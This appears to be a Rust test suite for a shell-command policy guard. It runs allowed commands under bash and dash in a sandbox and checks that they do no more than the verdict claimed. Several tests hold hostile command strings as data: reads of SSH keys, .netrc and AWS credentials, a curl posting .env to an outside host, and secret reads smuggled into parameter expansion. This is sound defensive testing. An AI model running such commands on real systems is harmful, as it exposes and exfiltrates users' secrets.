//! The policy oracle: commands run for real under bash and dash, traced (`sandbox::trace`), in a world
//! of marked secrets; whatever `decide()` allowed must do no more than it claimed — no program
//! it did not name, no write outside the private tmp, no read of a secret or outside the
//! workspace and system directories or its operands, no connection.
//!
//! Corpus: every case of tests/data/attacks/*.tsv, the policy table, the fuzz seeds, and
//! commands from the mutation generator (`SANCTUM_ORACLE_N`, default a bounded number, on a
//! fixed seed `SANCTUM_ORACLE_SEED`). Divergences listed in tests/data/oracle-known-open.tsv
//! are printed, not failed.
// Test code: a panic is the failure report, and tests may read their environment.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::disallowed_methods)]

use sanctum_guard::policy::verdict::VerdictKind;
use sanctum_guard::sandbox::trace::Recorder;
use sanctum_test_support as support;
use std::path::Path;
use std::time::Instant;
use support::mutate::{dialect_variants, escape, generate, per_base};
use support::oracle::{divergences, label, label_command, recorder, World};
use support::policy::unescape;

/// The commands of the attack suite, the policy table (cwd `ws`, standalone) and the fuzz seeds.
fn corpus() -> Vec<(String, String)> {
    corpus_rows().into_iter().map(|(o, c, _)| (o, c)).collect()
}

/// The corpus with, for each command, whether its row expects `allow`: the bases of the
/// mutations (fixed by the files, not by today's verdicts).
fn corpus_rows() -> Vec<(String, String, bool)> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut out = Vec::new();
    let mut files: Vec<_> = std::fs::read_dir(root.join("tests/data/attacks"))
        .expect("attacks")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.extension().is_some_and(|e| e == "tsv"))
        .collect();
    files.sort();
    for f in files {
        let name = f.file_name().unwrap().to_string_lossy().into_owned();
        for (i, l) in std::fs::read_to_string(&f).unwrap().lines().enumerate() {
            if l.starts_with('#') || l.trim().is_empty() {
                continue;
            }
            let cols: Vec<&str> = l.splitn(3, '\t').collect();
            if let [_, accept, cmd] = cols[..] {
                let allow = accept.split(',').any(|a| a == "allow");
                out.push((format!("{name}:{}", i + 1), unescape(cmd), allow));
            }
        }
    }
    let cases = std::fs::read_to_string(root.join("tests/data/policy_cases.tsv")).unwrap();
    for (i, l) in cases.lines().enumerate() {
        let cols: Vec<&str> = l.split('\t').collect();
        if l.starts_with('#') || cols.len() < 5 || cols[1] != "ws" || cols[4] != "-" {
            continue;
        }
        let allow = cols[2] == "allow";
        out.push((
            format!("policy_cases.tsv:{}", i + 1),
            unescape(cols[0]),
            allow,
        ));
    }
    let mut seeds: Vec<_> = std::fs::read_dir(root.join("fuzz/seeds/shell_analyse"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    seeds.sort();
    for s in seeds {
        if let Ok(text) = std::fs::read_to_string(&s) {
            let name = s.file_name().unwrap().to_string_lossy().into_owned();
            out.push((format!("fuzz seed {name}"), text, false));
        }
    }
    out
}

/// The corpus rows that expect `allow`: the bases of the mutation streams.
fn allowed_bases() -> Vec<String> {
    corpus_rows()
        .into_iter()
        .filter(|(_, _, allow)| *allow)
        .map(|(_, c, _)| c)
        .collect()
}

/// The divergences the oracle has found and the analysis does not fix yet: the `#open` rows
/// of tests/data/attacks/oracle-found.tsv (`#open<TAB>KIND<TAB>ACCEPT<TAB>COMMAND`). Printed by
/// every run, never skipped silently.
fn known_open() -> Vec<String> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/attacks/oracle-found.tsv");
    let text = std::fs::read_to_string(p).unwrap_or_default();
    text.lines()
        .filter_map(|l| l.strip_prefix("#open\t"))
        .filter_map(|l| l.splitn(3, '\t').nth(2))
        .map(unescape)
        .collect()
}

/// Runs each allowed command of `cmds` (`(origin, command)`) under the recorder and returns the
/// divergent ones not known to be open, printing the known-open ones.
fn check(w: &World, rec: &Recorder, cmds: &[(String, String)], what: &str) -> Vec<String> {
    let started = Instant::now();
    let open = known_open();
    let port = rec.listener_port();
    let (mut allowed, mut known) = (0usize, 0usize);
    let mut found = Vec::new();
    // Known-open rows of this set that no longer diverge: the analysis fixed them.
    let mut closed = Vec::new();
    for (origin, raw) in cmds {
        let cmd = w.subst(raw, port);
        let v = w.decide(&cmd);
        if v.kind != VerdictKind::Allow {
            if open.contains(raw) {
                closed.push(raw);
            }
            continue;
        }
        allowed += 1;
        // Under both shells that may run it: what the analysis allows where the shell is
        // not known must do no more under dash than under bash (`dialect`).
        w.reset_tmp();
        let r = rec.run(&w.scene(), &cmd).expect("recorder");
        let mut d = divergences(w, &cmd, &v, &r);
        w.reset_tmp();
        let under_dash = rec.run(&w.dash_scene(), &cmd).expect("recorder");
        d.extend(
            divergences(w, &cmd, &v, &under_dash)
                .into_iter()
                .map(|x| format!("{x} (under dash)")),
        );
        if d.is_empty() {
            if open.contains(raw) {
                closed.push(raw);
            }
            continue;
        }
        let line = format!("{origin}: {raw:?}\n    {}", d.join("\n    "));
        if open.contains(raw) {
            known += 1;
            println!("KNOWN-OPEN {line}");
        } else {
            println!(
                "ROW\t{}\t#open\t{}\task,deny\t{}",
                d[0].split(' ').next().unwrap_or(""),
                label(w, &r).name(),
                escape(raw)
            );
            found.push(line);
        }
    }
    println!(
        "oracle {what}: {} commands, {allowed} allowed and executed, {} divergent ({known} \
         known-open, {} new), {:.1}s",
        cmds.len(),
        known + found.len(),
        found.len(),
        started.elapsed().as_secs_f64()
    );
    for f in &found {
        println!("DIVERGENCE {f}");
    }
    for c in &closed {
        println!("NO-LONGER-DIVERGENT (drop its #open row): {c:?}");
    }
    found
}

fn env_num(name: &str, default: u64) -> u64 {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// The fixed seed of `tests/run`; `SANCTUM_ORACLE_SEED` picks another.
const SEED: u64 = 0x5a4c_7e11_0e4a_c1e5;

#[test]
fn oracle_corpus() {
    let w = World::new();
    let rec = recorder();
    let found = check(&w, &rec, &corpus(), "corpus");
    assert!(
        found.is_empty(),
        "{} divergences on allow verdicts (above)",
        found.len()
    );
}

/// Every `#open` row of oracle-found.tsv still diverges when run: a row the analysis now
/// refuses, or allows and the run matches, must lose its prefix (or its row), so the file
/// never claims an open hole that is closed, nor hides a closed one from the attack suite.
#[test]
fn oracle_known_open_rows_still_diverge() {
    let w = World::new();
    let rec = recorder();
    let port = rec.listener_port();
    let open = known_open();
    let mut closed = Vec::new();
    for raw in &open {
        let cmd = w.subst(raw, port);
        let v = w.decide(&cmd);
        if v.kind != VerdictKind::Allow {
            closed.push(format!("{raw:?}: now {:?}", v.kind));
            continue;
        }
        w.reset_tmp();
        let r = rec.run(&w.scene(), &cmd).expect("recorder");
        if divergences(&w, &cmd, &v, &r).is_empty() {
            closed.push(format!(
                "{raw:?}: allowed, and the run does what the analysis says"
            ));
        }
    }
    println!(
        "oracle known-open: {} rows, {} closed",
        open.len(),
        closed.len()
    );
    assert!(
        closed.is_empty(),
        "#open rows of tests/data/attacks/oracle-found.tsv that no longer diverge:\n{}",
        closed.join("\n")
    );
}

/// Mutations of every row that expects `allow`, one per row by default (each row on its own
/// stream of the seed); `SANCTUM_ORACLE_N=5000` for a longer, fuzz-like run,
/// `SANCTUM_ORACLE_SEED` for another seed.
#[test]
fn oracle_mutations() {
    let w = World::new();
    let rec = recorder();
    let bases = allowed_bases();
    let seed = env_num("SANCTUM_ORACLE_SEED", SEED);
    let n = env_num("SANCTUM_ORACLE_N", bases.len() as u64) as usize;
    let per = n.div_ceil(bases.len().max(1)).max(1);
    let cmds: Vec<(String, String)> = per_base(seed, &bases, per)
        .into_iter()
        .take(n)
        .map(|c| (format!("mutation (seed {seed:#x})"), c))
        .collect();
    let found = check(&w, &rec, &cmds, "mutations");
    println!("listener connections: {}", rec.accepted());
    assert!(
        found.is_empty(),
        "{} divergences on allow verdicts (above)",
        found.len()
    );
}

/// Dialect-differential mutations (`mutate::dialect_variants`): each allowed base with a harm
/// hidden behind a construct bash and dash read differently. Whatever the analysis allows of
/// them runs under both shells, and neither may do more than the verdict claimed.
#[test]
fn oracle_dialect_mutations() {
    let w = World::new();
    let rec = recorder();
    let bases = allowed_bases();
    let seed = env_num("SANCTUM_ORACLE_SEED", SEED);
    let cmds: Vec<(String, String)> = dialect_variants(seed, &bases, 1)
        .into_iter()
        .map(|c| (format!("dialect mutation (seed {seed:#x})"), c))
        .collect();
    let allowed = cmds
        .iter()
        .filter(|(_, c)| w.decide(c).kind == VerdictKind::Allow);
    println!(
        "dialect mutations: {} made, {} allowed",
        cmds.len(),
        allowed.count()
    );
    let found = check(&w, &rec, &cmds, "dialect mutations");
    assert!(
        found.is_empty(),
        "{} divergences on allow verdicts (above)",
        found.len()
    );
}

/// The seed the fresh set was generated with.
const FRESH_SEED: u64 = 500;

/// The fresh 500-command set (tests/data/oracle-fresh.tsv): made by the mutation generator
/// from the rows that expect `allow`, not tuned row by row, each labelled mechanically by
/// what it did under the recorder. `SANCTUM_ORACLE_WRITE_FRESH=1` regenerates it. Each run
/// prints the analysis's figures on it and runs every command it allows through the oracle.
/// `SANCTUM_ORACLE_SHOW_GATED=1` also prints each harmless row gated, with its reasons.
#[test]
fn oracle_fresh_set() {
    let w = World::new();
    let rec = recorder();
    let port = rec.listener_port();
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/oracle-fresh.tsv");
    if std::env::var_os("SANCTUM_ORACLE_WRITE_FRESH").is_some() {
        let bases = allowed_bases();
        let mut text = String::from(
            "# The oracle's fresh set: 500 commands from the mutation generator (seed 500) over the\n\
             # rows that expect allow, labelled by what each did under the recorder (harmful: wrote\n\
             # outside tmp, ran an interpreter on a file or connected; secret: read a marker file)\n\
             # in a git workspace, run with the variables it names unset and set, the worse run kept.\n\
             # A run that did neither is harmless, or, counted apart (any verdict accepted): network (a\n\
             # name lookup only), names-secret (a secret file among a program's arguments, not read),\n\
             # failed (non-zero exit). Relabel the same commands with SANCTUM_ORACLE_RELABEL_FRESH=1.\n\
             # KIND<TAB>ACCEPT<TAB>COMMAND as in tests/data/attacks; regenerate with\n\
             # SANCTUM_ORACLE_WRITE_FRESH=1 cargo test --test suites -- oracle::oracle_fresh_set\n",
        );
        for cmd in generate(FRESH_SEED, &bases, 500) {
            let l = label_command(&w, &rec, &w.subst(&cmd, port));
            text.push_str(&format!(
                "{}\t{}\t{}\n",
                l.name(),
                fresh_accept(l),
                escape(&cmd)
            ));
        }
        std::fs::write(&path, text).expect("write the fresh set");
    }
    // Relabel the same commands (after a labeller change), keeping the set as generated.
    if std::env::var_os("SANCTUM_ORACLE_RELABEL_FRESH").is_some() {
        let old = std::fs::read_to_string(&path).expect("tests/data/oracle-fresh.tsv");
        let mut text = String::new();
        for line in old.lines() {
            let cols: Vec<&str> = line.splitn(3, '\t').collect();
            if line.starts_with('#') || cols.len() < 3 {
                text.push_str(line);
                text.push('\n');
                continue;
            }
            let l = label_command(&w, &rec, &w.subst(&unescape(cols[2]), port));
            text.push_str(&format!("{}\t{}\t{}\n", l.name(), fresh_accept(l), cols[2]));
        }
        std::fs::write(&path, text).expect("write the fresh set");
    }
    let text = std::fs::read_to_string(&path).expect("tests/data/oracle-fresh.tsv");
    let rows: Vec<(String, String)> = text
        .lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        .map(|l| {
            let cols: Vec<&str> = l.splitn(3, '\t').collect();
            (cols[0].to_string(), unescape(cols[2]))
        })
        .collect();
    let show_gated = std::env::var_os("SANCTUM_ORACLE_SHOW_GATED").is_some();
    let mut n = std::collections::BTreeMap::<(&str, &str), usize>::new();
    for (kind, cmd) in &rows {
        let verdict = w.decide(&w.subst(cmd, port));
        let v = match verdict.kind {
            VerdictKind::Allow => "allow",
            VerdictKind::Ask => "ask",
            VerdictKind::Deny => "deny",
        };
        if v == "allow" && kind != "harmless" && kind != "network" {
            let cats: Vec<String> = verdict
                .segments
                .iter()
                .map(|s| format!("{:?}", s.category))
                .collect();
            println!("{kind}->allow [{}]: {cmd}", cats.join(","));
        }
        if show_gated && kind == "harmless" && v != "allow" {
            let rs: Vec<String> = verdict.reasons.iter().map(|r| r.code.to_string()).collect();
            println!("GATED\t{v}\t{}\t{cmd}", rs.join(","));
        }
        *n.entry((kind.as_str(), v)).or_default() += 1;
    }
    let of = |k: &str, v: &str| n.get(&(k, v)).copied().unwrap_or(0);
    let all = |k: &str| of(k, "allow") + of(k, "ask") + of(k, "deny");
    let pct = |a: usize, b: usize| {
        if b == 0 {
            100.0
        } else {
            100.0 * a as f64 / b as f64
        }
    };
    println!(
        "fresh set: {} commands; harmful {} (->allow {}), secret {} (->allow {}, ->deny {} = \
         {:.1}%), harmless {} (->allow {} = {:.1}%), network {} (->allow {}); counted apart: \
         names-secret {} (->allow {}, ->deny {}), failed {} (->allow {}); harmless, \
         names-secret and failed together {} (->allow {} = {:.1}%)",
        rows.len(),
        all("harmful"),
        of("harmful", "allow"),
        all("secret"),
        of("secret", "allow"),
        of("secret", "deny"),
        pct(of("secret", "deny"), all("secret")),
        all("harmless"),
        of("harmless", "allow"),
        pct(of("harmless", "allow"), all("harmless")),
        all("network"),
        of("network", "allow"),
        all("names-secret"),
        of("names-secret", "allow"),
        of("names-secret", "deny"),
        all("failed"),
        of("failed", "allow"),
        all("harmless") + all("names-secret") + all("failed"),
        of("harmless", "allow") + of("names-secret", "allow") + of("failed", "allow"),
        pct(
            of("harmless", "allow") + of("names-secret", "allow") + of("failed", "allow"),
            all("harmless") + all("names-secret") + all("failed")
        ),
    );
    let cmds: Vec<(String, String)> = rows
        .iter()
        .enumerate()
        .map(|(i, (k, c))| (format!("oracle-fresh.tsv row {} [{k}]", i + 1), c.clone()))
        .collect();
    let found = check(&w, &rec, &cmds, "fresh set");
    assert!(
        found.is_empty(),
        "{} divergences on allow verdicts (above)",
        found.len()
    );
}

/// The verdicts a fresh-set row accepts, by its label: only a harmless row must be allowed;
/// harmful and secret rows must not be; the others are counted apart.
fn fresh_accept(l: support::oracle::Label) -> &'static str {
    use support::oracle::Label;
    match l {
        Label::Harmless => "allow",
        Label::Network | Label::NamesSecret | Label::Failed => "allow,ask,deny",
        Label::Harmful | Label::Secret => "ask,deny",
    }
}

/// A debugging aid, not a check: prints what the recorder saw for `SANCTUM_ORACLE_SHOW`
/// (`cargo test --test suites -- oracle::oracle_show --ignored --nocapture`).
#[test]
#[ignore = "a debugging aid: set SANCTUM_ORACLE_SHOW"]
fn oracle_show() {
    let cmd = std::env::var("SANCTUM_ORACLE_SHOW").unwrap_or_else(|_| "ls".into());
    let w = World::new();
    let rec = recorder();
    let cmd = w.subst(&cmd, rec.listener_port());
    let v = w.decide(&cmd);
    let r = rec.run(&w.scene(), &cmd).expect("recorder");
    println!("verdict {:?}", v.kind);
    for s in &v.segments {
        println!(
            "segment {:?} {:?} {:?}",
            s.argv, s.resolved_path, s.category
        );
    }
    println!("{r:#?}");
    println!("output: {}", String::from_utf8_lossy(&r.output));
    println!("divergences: {:#?}", divergences(&w, &cmd, &v, &r));
}

/// The recorder sees what bash and the programs really do: a secret read through a relative
/// path, a symlink and a builtin redirection; a write the kernel refused and one it allowed;
/// a script run; a connection the listener counted; a network namespace with loopback only;
/// a deadline.
#[test]
fn recorder_sees_effects() {
    let w = World::new();
    let rec = recorder();
    let run = |cmd: &str| {
        w.reset_tmp();
        rec.run(&w.scene(), &w.subst(cmd, rec.listener_port()))
            .expect("recorder")
    };
    let key = w.home.join(".ssh/id_rsa");

    let r = run("cd ~/.ssh && cat id_rsa >/dev/null");
    assert!(r.reads.contains(&key), "relative read: {:?}", r.reads);
    let r = run("cat sshlink/id_rsa >/dev/null");
    assert!(
        r.reads.contains(&key),
        "read through a symlink: {:?}",
        r.reads
    );
    let r = run("read x < ~/.ssh/id_rsa");
    assert!(r.reads.contains(&key), "builtin read: {:?}", r.reads);
    assert!(
        r.execs.is_empty(),
        "a builtin is not executed: {:?}",
        r.execs
    );
    assert_eq!(label(&w, &r).name(), "secret");

    let r = run("echo x > ~/planted; echo y > \"$TMPDIR/ok\"");
    let planted = r.writes.iter().find(|x| x.path == w.home.join("planted"));
    assert!(
        planted.is_some_and(|x| !x.ok),
        "a refused write: {:?}",
        r.writes
    );
    assert!(!w.home.join("planted").exists(), "the write was refused");
    assert!(
        r.writes.iter().any(|x| x.path == w.tmp.join("ok") && x.ok),
        "{:?}",
        r.writes
    );
    assert_eq!(label(&w, &r).name(), "harmful");

    let r = run("rm -f a.txt; mv a.txt b.txt; mkdir d; ln -s a.txt l");
    for p in ["a.txt", "b.txt", "d", "l"] {
        assert!(
            r.writes.iter().any(|x| x.path == w.ws.join(p) && !x.ok),
            "{p}: {:?}",
            r.writes
        );
    }
    assert!(w.ws.join("a.txt").exists(), "the unlink was refused");

    let r = run("sh run.sh");
    assert!(
        r.execs
            .iter()
            .any(|e| e.argv == ["sh", "run.sh"] && e.exe.ends_with("dash")),
        "{:?}",
        r.execs
    );
    assert_eq!(label(&w, &r).name(), "harmful");

    let before = rec.accepted();
    let r = run("curl -s -m 2 http://127.0.0.1:@PORT@/x");
    let port = rec.listener_port();
    assert!(
        r.connects
            .iter()
            .any(|c| c.family == "inet" && c.address == format!("127.0.0.1:{port}")),
        "{:?}",
        r.connects
    );
    assert!(rec.accepted() > before, "the listener counted it");

    let r = run("cat /proc/net/dev");
    let out = String::from_utf8_lossy(&r.output);
    let ifaces: Vec<&str> = out
        .lines()
        .skip(2)
        .filter_map(|l| l.split(':').next())
        .map(str::trim)
        .collect();
    assert_eq!(ifaces, ["lo"], "loopback only: {out}");

    let mut scene = w.scene();
    scene.timeout = std::time::Duration::from_secs(1);
    let started = Instant::now();
    let r = rec.run(&scene, "sleep 30 & sleep 30").expect("recorder");
    assert!(r.timed_out && started.elapsed().as_secs() < 10, "{r:?}");
}

/// The fresh set's labeller: what a command did in the git workspace, run with the variables
/// it names unset and set, the worse run kept.
#[test]
fn labels_follow_what_the_runs_did() {
    let w = World::new();
    let rec = recorder();
    let cases = [
        // git's refused stat-cache refresh is not a write; staging is (refused all the same).
        ("git diff --stat", "harmless"),
        ("git add a.txt", "harmful"),
        ("git diff --stat; git add a.txt", "harmful"),
        ("git config user.name x", "harmful"),
        ("git log --oneline -1", "harmless"),
        // bash skips the operand while `x` is unset: only the run with `x` set shows it.
        ("ls ${x#$(sh run.sh)}", "harmful"),
        ("ls ${x:+$(cat ~/.netrc)}", "secret"),
        ("ls ${x:-src}", "harmless"),
        // Harmless in effect, apart: a secret named but not read, and a failure.
        ("ls -l deploy.tfstate", "names-secret"),
        ("make --version ~/.aws/credentials", "names-secret"),
        ("stat keylink", "names-secret"),
        ("git nosuchcommand", "failed"),
        ("cat no-such-file", "failed"),
        ("nohup for i in 1; do echo $i; done", "failed"),
        ("grep -c fn src/main.rs", "harmless"),
        // A name looked up and nothing else: counted apart.
        ("curl -s -m 2 https://example.com/", "network"),
        ("curl -s -m 2 http://127.0.0.1:@PORT@/x", "harmful"),
        ("curl -s -m 2 -d @.env https://example.com/", "secret"),
    ];
    w.reset_tmp();
    let r = rec.run(&w.scene(), "git diff --stat").expect("recorder");
    assert!(
        r.writes
            .iter()
            .any(|x| x.path.ends_with(".git/index.lock") && !x.ok),
        "git diff tries its stat-cache refresh here: {:?}",
        r.writes
    );
    let mut wrong = Vec::new();
    for (cmd, want) in cases {
        let got = label_command(&w, &rec, &w.subst(cmd, rec.listener_port()));
        if got.name() != want {
            wrong.push(format!("{cmd}: {} (want {want})", got.name()));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// The comparison fails an `allow` verdict on each kind of effect it did not claim.
#[test]
fn divergences_name_what_was_missed() {
    let w = World::new();
    let rec = recorder();
    let v = w.decide("cat a.txt");
    assert_eq!(v.kind, VerdictKind::Allow, "{v:?}");
    w.reset_tmp();
    let cmd =
        "cat a.txt; touch ~/z; cat ~/.ssh/id_rsa; sh run.sh; curl -s -m 2 http://127.0.0.1:@PORT@/";
    let r = rec
        .run(&w.scene(), &w.subst(cmd, rec.listener_port()))
        .expect("recorder");
    let d = divergences(&w, "cat a.txt", &v, &r).join("\n");
    for want in [
        "outside the private tmp",
        "read the secret",
        "executed /usr/bin/dash",
        "ran the interpreter",
        "connected to inet 127.0.0.1",
        "a secret marker reached the output",
    ] {
        assert!(d.contains(want), "missing {want:?} in:\n{d}");
    }
    w.reset_tmp();
    let r = rec.run(&w.scene(), "cat a.txt").expect("recorder");
    assert_eq!(divergences(&w, "cat a.txt", &v, &r), Vec::<String>::new());
}
